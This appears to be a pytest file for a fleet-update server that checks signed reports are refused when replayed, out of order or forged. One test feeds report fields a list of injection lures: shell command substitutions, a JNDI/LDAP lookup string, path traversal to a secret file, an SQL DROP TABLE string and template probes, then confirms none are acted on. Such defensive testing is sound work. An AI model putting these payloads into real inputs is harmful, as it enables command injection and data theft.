"""S10: replayed, out-of-order and forged reports are refused, and the counts stay exact. S03: what they hold is text."""
import os
import socket
import tempfile

import pytest

from harness import messages, programs, wire

check_pb2, metadata_pb2, report_pb2 = messages.check_pb2, messages.metadata_pb2, messages.report_pb2


@pytest.fixture
def pair(seeder, make_node):
    """Two nodes whose checks the seeder has seen; they do not run."""
    nodes = [make_node(seeder, "pc-1"), make_node(seeder, "pc-2")]
    for node in nodes:
        assert node.call("check").code == 0
    programs.wait_until(lambda: len(seeder.status().nodes) == 2, "both nodes are listed")
    return nodes


def report_of(node, sequence, outcome=report_pb2.OUTCOME_COMMITTED, attempt=None):
    return report_pb2.Report(node_id=node.status().node_id, node_name=node.name, attempt_id=attempt or os.urandom(16).hex(),
                             app="demo", to_version=f"1.0.{sequence}", outcome=outcome, ended_at=sequence,
                             sequence=sequence)


def send(seeder, report, signer, sender=None):
    body = report.SerializeToString()
    message = report_pb2.SignedReport(report=body, signature=wire.signature(signer.state / "key.pem", "report", body))
    return wire.as_node(sender or signer, seeder, "/v1/report", message)[0]


def counted(seeder, count):
    """Whether exactly so many reports have counted; the event of the last may be on its way."""
    programs.wait_until(lambda: len(seeder.daemon.told("fleet.report")) >= count, f"{count} reports are told of")
    return len(seeder.daemon.told("fleet.report")) == count


def test_a_report_that_openssl_has_signed_counts_once_however_often_it_comes(seeder, pair):
    report = report_of(pair[0], 1)
    for _ in range(3):
        assert send(seeder, report, pair[0]) == 200
    seeder.daemon.wait("fleet.report")
    assert counted(seeder, 1)
    assert seeder.daemon.told("report.refused") == []


def test_replayed_and_out_of_order_reports_count_nothing(seeder, pair):
    assert send(seeder, report_of(pair[0], 7), pair[0]) == 200
    for sequence in (7, 6, 1):
        assert send(seeder, report_of(pair[0], sequence, report_pb2.OUTCOME_FAILED), pair[0]) == 409
    assert send(seeder, report_of(pair[0], 0), pair[0]) == 400
    assert send(seeder, report_of(pair[1], 1), pair[1]) == 200
    assert send(seeder, report_of(pair[0], 8), pair[0]) == 200
    assert counted(seeder, 3)
    programs.wait_until(lambda: len(seeder.daemon.told("report.refused")) == 3, "each refusal has its event")
    apps = {node.name: node.apps[0] for node in seeder.status().nodes}
    assert apps["pc-1"].last_outcome == report_pb2.OUTCOME_COMMITTED


def test_the_last_number_is_remembered_across_a_restart(seeder, pair):
    assert send(seeder, report_of(pair[0], 7), pair[0]) == 200
    seeder.daemon.kill()
    seeder.serve()
    assert send(seeder, report_of(pair[0], 7), pair[0]) == 409
    assert send(seeder, report_of(pair[0], 8), pair[0]) == 200


def test_forged_reports_count_nothing(seeder, pair):
    one, other = pair
    assert send(seeder, report_of(one, 1), signer=other, sender=one) == 400  # the signature is another's
    assert send(seeder, report_of(one, 1), signer=one, sender=other) == 403  # the connection is another's
    body = report_of(one, 1).SerializeToString()
    signed = wire.signature(one.state / "key.pem", "report", body)
    changed = body.replace(b"1.0.1", b"9.9.9")
    for report, signature in ((changed, signed), (body, b""), (body, b"\x30" * 200), (body, signed[:-1]),
                              (body, wire.signature(one.state / "key.pem", "enrolment", body))):
        message = report_pb2.SignedReport(report=report, signature=signature)
        assert wire.as_node(one, seeder, "/v1/report", message)[0] == 400
    assert wire.post(seeder, "/v1/report", report_pb2.SignedReport(report=body, signature=signed).SerializeToString(),
                     )[0] == 401
    assert counted(seeder, 0)
    assert send(seeder, report_of(one, 1), one) == 200, "what was forged has used up no number"
    assert counted(seeder, 1)


def test_a_node_numbers_what_it_reports_ever_higher(seeder, make_node, release):
    seeder.publish(release("1.0.0"), "demo", "1.0.0")
    node = make_node(seeder)
    daemon = node.run()
    daemon.wait("report.sent")
    place = daemon.count()
    seeder.publish(release("2.0.0"), "demo", "2.0.0")
    daemon.wait("report.sent", after=place)
    newest, oldest = (attempt.sequence for attempt in node.history())
    assert newest > oldest > 0
    assert counted(seeder, 2)


@pytest.fixture
def short_place():
    """The path of a directory, short enough for every field of a report."""
    with tempfile.TemporaryDirectory(prefix="", dir="/tmp") as place:
        yield place


@pytest.mark.networks
def test_nothing_that_a_report_or_a_check_names_is_fetched_opened_or_run(seeder, pair, short_place):
    """S03. All that leaves this machine is seen, name servers asked included."""
    secret, made = f"{short_place}/secret", f"{short_place}/made"
    with open(secret, "w", encoding="utf-8") as file:
        file.write("the words of a file on the seeder's machine")
    lures = ["http://203.0.113.9/x", "https://somebody.example/x", "203.0.113.9:6881", "somebody.example:80",
             "ftp://203.0.113.9", "\\\\203.0.113.9\\share", "//203.0.113.9/x", "ldap://203.0.113.9/x",
             "${jndi:ldap://203.0.113.9/x}", "<img src=http://203.0.113.9/x>", f"file://{secret}", secret, f"@{secret}",
             f"../../../..{secret}", f"$(touch {made})", f"`touch {made}`", f"; touch {made}", f"| touch {made}",
             f"<(touch {made})", f"%{{touch {made}}}", "{{7*7}}", "%s%n", "'; DROP TABLE fleet_nodes; --"]
    node, node_id = pair[0], pair[0].status().node_id
    with wire.Egress() as egress:
        for number, lure in enumerate(lures, 1):
            asked = check_pb2.CheckRequest(node_id=node_id, node_name=lure, agent_version=lure,
                                           platform=metadata_pb2.Platform(os=lure, arch=lure))
            asked.apps.add(app=lure, channel=lure, version=lure)
            assert wire.as_node(node, seeder, "/v1/check", asked)[0] == 200, lure
            told = report_of(node, number, report_pb2.OUTCOME_ROLLED_BACK)
            told.node_name = told.app = told.from_version = told.to_version = told.detail = lure
            told.phases.add(phase=lure, milliseconds=1)
            told.sources.add(address=lure, bytes=1)
            assert send(seeder, told, node) == 200, lure
            seeder.daemon.wait("fleet.report", lure)
            shown = [seeder.call(*words) for words in (["status"], ["status", "--json"], ["node", "list"], ["audit"])]
            assert lure in {name.name for name in shown[1].json(messages.status_pb2.SeederStatus).nodes}, "taken in, as text"
            for answer in shown:
                assert answer.code == 0 and "the words of a file" not in answer.out + answer.err, lure
    assert egress.sent == []
    assert os.listdir(short_place) == ["secret"]
    assert counted(seeder, len(lures))


@pytest.mark.networks
def test_what_leaves_the_machine_is_seen():
    """The test above would be worth nothing otherwise."""
    with wire.Egress() as egress:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(b"x", ("203.0.113.9", 80))
            one.sendto(b"x", ("127.0.0.53", 53))
            one.sendto(b"x", ("127.0.0.53", 54))
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as other:
            other.setblocking(False)
            other.connect_ex(("203.0.113.10", 80))
    assert egress.sent == ["203.0.113.9", "127.0.0.53", "203.0.113.10"]
